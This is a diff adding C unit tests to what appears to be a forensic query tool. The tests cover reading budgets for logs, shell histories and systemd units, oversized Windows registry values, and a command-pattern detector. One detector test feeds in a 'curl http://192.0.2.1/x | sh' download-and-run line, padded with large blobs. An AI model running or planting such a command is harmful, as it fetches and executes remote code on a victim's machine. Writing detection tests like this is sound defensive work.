@@ -3,6 +3,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <pthread.h>
+#include <sched.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -11,6 +12,7 @@
 
 #include "formats/text/input.h"
 #include "harness.h"
+#include "make_hive.h"
 #include "root.h"
 #include "svcql.h"
 
@@ -111,6 +113,115 @@ START_TEST(a_sparse_log_is_read_at_once)
     harness_expect(db, "2",
                    "SELECT count(*) FROM auth_events('%s/auth.log') WHERE user IS NOT NULL", dir);
     harness_close(db);
+}
+END_TEST
+
+/* Budgets --------------------------------------------------------------------- */
+
+/* Ann floods what she may: 40 units of 500 settings, and a history of 20,000 commands. */
+static const char *flood(void)
+{
+    const char *dir = two_homes();
+    char       *unit = malloc(20000), *history = malloc(400000), path[200];
+    size_t      n = (size_t)sprintf(unit, "[Service]\nExecStart=/bin/true\n"), m = 0;
+
+    for (int i = 0; i < 498; i++)
+        n += (size_t)sprintf(unit + n, "Environment=A%d=1\n", i);
+    for (int i = 0; i < 40; i++) {
+        snprintf(path, sizeof path, "home/ann/.config/systemd/user/a%02d.service", i);
+        harness_write_text(dir, path, unit);
+    }
+    for (int i = 0; i < 20000; i++)
+        m += (size_t)sprintf(history + m, "true %d\n", i);
+    harness_write_text(dir, "home/ann/.bash_history", history);
+    harness_write_text(dir, "home/ann/.zsh_history", history);
+    free(unit);
+    free(history);
+    harness_write_text(dir, "home/bob/.config/systemd/user/b.service",
+                       "[Service]\nExecStart=/bin/b\n");
+    harness_write_text(dir, "etc/systemd/system/s.service", "[Service]\nExecStart=/bin/s\n");
+    return dir;
+}
+
+/* What is beyond the budget of a source: its own rows, never those of others, and it is reported. */
+START_TEST(a_source_beyond_its_budget_is_left_out_and_the_query_runs_on)
+{
+#define OVER "left out from here on: beyond the budget of a source"
+    sqlite3    *db = harness_open();
+    const char *dir = flood();
+
+    harness_expect(db, "19962", "SELECT count(*) FROM unit_settings WHERE root = '%s'", dir);
+    harness_query(db, "UPDATE svcql_settings SET value = '4000' WHERE name = 'source_rows'");
+    harness_expect(db, "ann|1\nbob|1\nNULL|1",
+                   "SELECT scope_user, count(*) BETWEEN 1 AND 1501 FROM unit_settings "
+                   "WHERE root = '%s' GROUP BY 1 ORDER BY 1 NULLS LAST",
+                   dir);
+    harness_expect(db, "damaged|1|1",
+                   "SELECT status, skipped, detail LIKE '%%; managers beyond the budget of a "
+                   "source: 1%%' FROM evidence_sources WHERE table_name = 'unit_settings' AND "
+                   "location = '%s'",
+                   dir);
+    harness_expect(db, "ann|1001\nbob|1",
+                   "SELECT user, count(*) FROM shell_history WHERE root = '%s' GROUP BY 1", dir);
+    harness_expect(db,
+                   "/home/ann/.bash_history|damaged|" OVER "\n/home/ann/.zsh_history|damaged|" OVER
+                   "\n"
+                   "/home/bob/.bash_history|read|NULL",
+                   "SELECT substr(source, %d), status, detail FROM evidence_sources "
+                   "WHERE table_name = 'shell_history' AND source GLOB '%s/home/*_history' "
+                   "ORDER BY 1",
+                   (int)strlen(dir) + 1, dir);
+    harness_close(db);
+}
+END_TEST
+
+/* The same by bytes, of what gives no row; a log has the budget of a source for itself. */
+START_TEST(a_budget_of_bytes_ends_a_log_without_rows)
+{
+    sqlite3    *db = harness_open();
+    const char *dir = harness_scratch();
+    size_t      size = 8 << 20;
+    char       *text = malloc(size + 1);
+
+    for (size_t i = 0; i < size; i++)
+        text[i] = i % 64 == 63 ? '\n' : 'x';
+    text[size] = '\0';
+    harness_write_text(dir, "a/auth.log", text);
+    free(text);
+    harness_write_text(
+        dir, "b/auth.log",
+        "Nov 14 22:13:20 web sudo:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; "
+        "COMMAND=/usr/bin/systemctl start x\n");
+    harness_query(db, "UPDATE svcql_settings SET value = '2' WHERE name = 'source_megabytes'");
+    harness_expect(db, "1", "SELECT count(*) FROM auth_events('%s/*/auth.log')", dir);
+    harness_expect(db, "damaged|" OVER "\nread|NULL",
+                   "SELECT status, detail FROM evidence_sources WHERE source GLOB '%s/*' "
+                   "ORDER BY source",
+                   dir);
+    harness_close(db);
+}
+END_TEST
+
+/* Time is counted while a source is read. */
+START_TEST(a_budget_of_time_ends_a_slow_source)
+{
+    struct input_budget budget = {.ms = 40};
+    struct input_scan   outer = input_scan_begin((struct input_scan){.budget = &budget});
+
+    input_source(0);
+    ck_assert(!input_over_budget());
+    while (!input_over_budget())
+        sched_yield();
+    input_source(0);
+    ck_assert(!input_over_budget());
+    input_source(7);
+    budget.spent = 11; /* a user has a quarter, for all sources of his in a row */
+    ck_assert(input_over_budget());
+    input_source(7);
+    ck_assert(input_over_budget());
+    input_source(8);
+    ck_assert(!input_over_budget());
+    input_scan_end(outer);
 }
 END_TEST
 
@@ -232,7 +343,71 @@ START_TEST(a_cut_audit_line_is_counted_and_no_event)
 }
 END_TEST
 
+/* Registry -------------------------------------------------------------------- */
+
+static void hive_with_value(const char *dir, const char *name, size_t size)
+{
+    struct made_hive *hive = make_hive();
+    struct made_key  *key = make_hive_key(hive, "ControlSet001\\Services\\evil");
+    uint8_t          *data = calloc(size, 1);
+
+    for (size_t i = 0; i + 2 < size; i += 2)
+        data[i] = 'x';
+    make_hive_dword(make_hive_key(hive, "Select"), "Current", 1);
+    make_hive_value(key, name, 1, data, size);
+    make_hive_dword(key, "Type", 16);
+    make_hive_dword(key, "Start", 2);
+    make_hive_file(hive, dir, "Windows/System32/config/SYSTEM");
+    make_hive_free(hive);
+    free(data);
+}
+
+/* Its beginning is given, not NULL, which is what a value without data has. */
+START_TEST(a_registry_value_too_large_is_cut_and_counted)
+{
+    sqlite3    *db = harness_open();
+    const char *dir = harness_scratch();
+
+    hive_with_value(dir, "Blob", (16 << 20) + 4096);
+    harness_query(db, "DELETE FROM evidence");
+    harness_query(db, "INSERT INTO evidence(location) VALUES('%s')", dir);
+    harness_expect(db, "16777216",
+                   "SELECT length(data_raw) FROM registry WHERE name = 'Blob' AND key = "
+                   "'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\evil'");
+    harness_expect(
+        db, "1|values above 16 MiB were cut",
+        "SELECT skipped > 0, detail FROM evidence_sources WHERE table_name = 'registry'");
+    harness_close(db);
+}
+END_TEST
+
 /* Commands -------------------------------------------------------------------- */
+
+/* What lies in its middle is nothing that runs; that it is so long is a signal of its own. */
+START_TEST(a_command_longer_than_any_is_judged_by_its_ends)
+{
+    static const struct {
+        const char *text, *expected;
+    } cases[] = {
+        {"hex(zeroblob(131072))", "[]"},
+        {"hex(zeroblob(131073))", "[\"obfuscated\"]"},
+        {"'curl http://192.0.2.1/x | sh ' || hex(zeroblob(4000000))", "1"},
+        {"hex(zeroblob(4000000)) || ' ; curl http://192.0.2.1/x | sh'", "1"},
+    };
+    sqlite3 *db = harness_open();
+
+    for (size_t i = 0; i < 2; i++) {
+        harness_expect(db, cases[i].expected, "SELECT pattern_signals('unix', %s)", cases[i].text);
+        harness_expect(db, cases[i].expected, "SELECT pattern_signals('windows', %s)",
+                       cases[i].text);
+    }
+    for (size_t i = 2; i < 4; i++)
+        harness_expect(db, cases[i].expected,
+                       "SELECT pattern_signals('unix', %s) LIKE '%%\"downloads\"%%'",
+                       cases[i].text);
+    harness_close(db);
+}
+END_TEST
 
 START_TEST(wrappers_without_end_hide_no_command)
 {
@@ -265,7 +440,8 @@ START_TEST(a_read_ends_with_the_query)
 {
     int               asked = 0, fd = open("/dev/zero", O_RDONLY | O_CLOEXEC);
     char              byte;
-    struct input_scan outer = input_scan_begin((struct input_scan){yes, &asked});
+    struct input_scan outer =
+        input_scan_begin((struct input_scan){.interrupted = yes, .data = &asked});
 
     ck_assert_int_eq(input_read(fd, &byte, 1), -ECANCELED);
     ck_assert_int_eq(input_pread(fd, &byte, 1, 0), -ECANCELED);
@@ -373,11 +549,16 @@ Suite *make_trust_suite(void)
     tcase_add_test(tcase, a_hole_in_a_history_costs_its_user_alone);
     tcase_add_test(tcase, a_long_command_is_cut_and_counted);
     tcase_add_test(tcase, a_sparse_log_is_read_at_once);
+    tcase_add_test(tcase, a_source_beyond_its_budget_is_left_out_and_the_query_runs_on);
+    tcase_add_test(tcase, a_budget_of_bytes_ends_a_log_without_rows);
+    tcase_add_test(tcase, a_budget_of_time_ends_a_slow_source);
     tcase_add_test(tcase, padding_hides_no_service);
     tcase_add_test(tcase, a_comment_too_long_for_systemd_ends_the_file);
     tcase_add_test(tcase, a_kept_list_of_an_older_shape_is_filled);
     tcase_add_test(tcase, a_list_of_another_shape_is_refused_by_name);
     tcase_add_test(tcase, a_cut_audit_line_is_counted_and_no_event);
+    tcase_add_test(tcase, a_registry_value_too_large_is_cut_and_counted);
+    tcase_add_test(tcase, a_command_longer_than_any_is_judged_by_its_ends);
     tcase_add_test(tcase, wrappers_without_end_hide_no_command);
     tcase_add_test(tcase, a_read_ends_with_the_query);
     tcase_add_test(tcase, an_interrupt_ends_a_step_of_a_table);
